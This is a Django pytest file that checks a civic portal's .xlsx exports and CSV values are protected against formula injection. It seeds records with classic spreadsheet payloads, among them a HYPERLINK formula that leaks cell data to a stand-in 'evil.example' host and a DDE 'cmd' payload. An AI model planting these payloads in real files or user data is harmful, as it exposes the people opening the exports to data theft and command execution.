"""No export carries a formula (issue 14, acceptance 2; TARGETS S10).

Every text field of every exported record holds a classic spreadsheet
payload; every ``.xlsx`` route of the URL conf (units, points, indicators,
the task ledger, findings, tasks, volunteers, sign-ups and hours, the
bulletin, import reports — and any export added later, since the routes are
walked, not listed) must come back with those strings as text cells, none
as a formula."""

from __future__ import annotations

import io

import pytest
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

import datetime as dt
from types import SimpleNamespace

from django.utils import timezone

from campaigns.models import Campaign, ImportJob, Membership, Unit
from civportal.xlsx import csv_safe
from scores.models import MonthlyScore

from ..api.world import build_world
from ..materials.helpers import edition

PAYLOADS = ['=HYPERLINK("http://evil.example/?p="&B2,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3",
            "\tTAB", "\rCR"]
SKIP_FIELDS = {"path", "username", "password", "key_hash", "prefix", "email", "phone", "id_number", "status",
               "kind", "role", "source", "severity", "level", "code_type", "language", "event", "url"}
pytestmark = pytest.mark.django_db


def xlsx_routes() -> list[tuple[str, str]]:
    """(name, route) of every URL ending in .xlsx."""
    found = []

    def walk(patterns, prefix="", namespace=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
                walk(p.url_patterns, prefix + str(p.pattern), ns)
            elif isinstance(p, URLPattern) and str(p.pattern).endswith(".xlsx"):
                found.append((namespace + (p.name or ""), prefix + str(p.pattern)))

    walk(get_resolver().url_patterns)
    return sorted(found)


def poison(model, offset=0) -> int:
    """Put payloads into every free-text field of every row; returns how many fields were poisoned."""
    # Scope path columns (``unit_path``, ``department_path``) are materialised unit paths, not text: a payload
    # there would put the row out of everyone's scope, and no export would show it.
    system_maintained = set(getattr(model, "SCOPE_PATHS", {}))
    fields = [f for f in model._meta.concrete_fields
              if isinstance(f, (models.CharField, models.TextField)) and not f.choices
              and f.name not in SKIP_FIELDS | system_maintained]
    for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
        values = {}
        for i, f in enumerate(fields):
            payload = PAYLOADS[(n + i + offset) % len(PAYLOADS)]
            # Unique fields: the trigger, the row's id, then the payload (still a formula to a spreadsheet).
            value = f"{payload[0]}{pk} {payload}" if f.unique or f.name in {"code", "name"} else payload
            values[f.name] = value[: f.max_length] if f.max_length else value
        if values:
            model.objects.filter(pk=pk).update(**values)
    return len(fields)


def add_new_app_objects(city, personas, world) -> SimpleNamespace:
    """A material call (with its owed answers), a notice, a survey with a wave and one free-text answer:
    their text fields are poisoned below, the free-text answer carries a payload itself."""
    from materials import services as materials
    from notices import services as notices
    from surveys import services as surveys
    from surveys.models import Question

    today = timezone.localdate()
    system = edition()
    campaign = Campaign.objects.create(name="2026材料", starts_on=dt.date(2026, 1, 1), ends_on=dt.date(2026, 12, 31),
                                       status=Campaign.Status.ACTIVE, indicator_system=system)
    indicator = system.indicators.get(code="1.1.1.1")
    call = materials.material_call_create(actor=personas.supervisor, campaign=campaign, indicator=indicator,
                                          title="征集台账", evidence="请上传台账", deadline=today + dt.timedelta(days=10),
                                          kind=Unit.Kind.STREET, within=city.district_a)
    notice = notices.notice_publish(actor=personas.supervisor, title="创建工作通知", body="请各单位落实",
                                    target_root=city.district_a)
    survey = surveys.survey_create(actor=personas.supervisor, name="满意度调查", standard=True)
    wave = surveys.wave_create(actor=personas.supervisor, survey=survey, campaign=world.plan.campaign, name="第一轮",
                               starts_on=today - dt.timedelta(days=1), ends_on=today + dt.timedelta(days=30),
                               units=[city.street_a1], quota=10)
    target = wave.targets.get()
    text_question = survey.questions.get(kind=Question.Kind.TEXT)
    answers = {q.key: {Question.Kind.YESNO: "yes", Question.Kind.RATING: "5", Question.Kind.SINGLE: "u30"}[q.kind]
               for q in survey.questions.exclude(kind=Question.Kind.TEXT)}
    answers[text_question.key] = PAYLOADS[0]
    surveys.response_submit(target=target, device="device-1", data=answers)
    return SimpleNamespace(campaign=campaign, call=call, notice=notice, survey=survey, wave=wave)


@pytest.fixture
def poisoned(city, personas):
    from django.apps import apps

    world = build_world(city, personas)
    world.extra = add_new_app_objects(city, personas, world)
    MonthlyScore.objects.update(rank=1)
    ImportJob.objects.update(errors=[{"row": 2, "column": p, "message": p} for p in PAYLOADS])
    poisoned_models = []
    for label in ["campaigns.Unit", "campaigns.Campaign", "campaigns.IndicatorSystem", "campaigns.Indicator",
                  "campaigns.PointType", "campaigns.Point", "campaigns.WorkItem", "campaigns.Membership",
                  "campaigns.User", "inspections.Finding", "inspections.FindingCategory",
                  "inspections.RectificationTask", "volunteers.Volunteer", "volunteers.Team", "volunteers.Activity",
                  "volunteers.Signup", "materials.MaterialCall", "materials.MaterialSubmission",
                  "notices.Notice", "surveys.Survey", "surveys.Question", "surveys.SurveyWave",
                  "rounds.PointDraw", "rounds.InspectionSchedule", "inspections.RecheckRule"]:
        try:
            model = apps.get_model(label)
        except LookupError:
            continue
        if poison(model):
            poisoned_models.append(label)
    assert len(poisoned_models) >= 10
    return world


def route_url(route: str, world) -> str:
    ids = {"campaigns/<int:pk>/ledger": world.plan.campaign.pk, "editions/<int:pk>": world.plan.system.pk,
           "imports/<int:pk>": world.job.pk, "activities/<int:pk>": world.activity.pk,
           "materials/campaigns/<int:pk>": world.extra.campaign.pk, "notices/<int:pk>": world.extra.notice.pk,
           "surveys/waves/<int:pk>": world.extra.wave.pk, "rounds/draws/<int:pk>": world.draw.pk}
    url = "/" + route
    for prefix, pk in ids.items():
        if prefix in route:
            url = url.replace("<int:pk>", str(pk))
    assert "<" not in url, f"give the test an object for {route}"
    if "bulletin" in route:
        url += f"?campaign={world.plan.campaign.pk}&month=2026-10"
    if "lost-points" in route:  # the world's visit (and its failed check) is of the current month
        url += f"?campaign={world.plan.campaign.pk}&period={timezone.localdate():%Y-%m}"
    return url


def test_every_export_route_is_known():
    names = {name for name, _route in xlsx_routes()}
    assert {"campaigns:unit_export", "inspections:finding_export", "inspections:task_export",
            "volunteers:volunteer_export", "scores:bulletin_xlsx"} <= names, names


@pytest.mark.parametrize("name,route", xlsx_routes())
def test_export_has_no_formula_cell(name, route, poisoned, personas, client):
    client.force_login(personas.supervisor)
    response = client.get(route_url(route, poisoned))
    assert response.status_code == 200, (name, response.status_code)
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # formulas kept as formulas
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == [], (name, formulas[:5])
    exported = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(
        tuple(p[0] for p in PAYLOADS)) and any(p in cell.value for p in PAYLOADS)]
    assert exported, f"{name}: no payload reached the export, so this test would prove nothing"
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))


def test_export_keeps_the_text_unchanged(poisoned, personas, client, city):
    client.force_login(personas.supervisor)
    response = client.get("/units/export.xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = {cell.value for row in workbook.active.iter_rows() for cell in row}
    city.city.refresh_from_db()
    assert city.city.name in values and city.city.name.startswith(tuple(p[0] for p in PAYLOADS))


def test_csv_values_are_prefixed():
    assert [csv_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert csv_safe("正常文本") == "正常文本" and csv_safe(12) == 12
